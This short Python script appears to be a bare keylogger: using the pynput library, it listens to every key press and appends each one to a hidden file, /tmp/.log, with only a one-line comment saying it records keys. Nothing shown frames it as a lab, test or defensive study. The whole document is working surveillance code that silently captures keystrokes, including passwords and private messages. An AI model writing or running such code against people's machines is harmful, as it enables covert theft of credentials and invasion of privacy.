# records keys
from pynput import keyboard
log = open("/tmp/.log", "a")
keyboard.Listener(on_press=lambda k: log.write(str(k))).run()
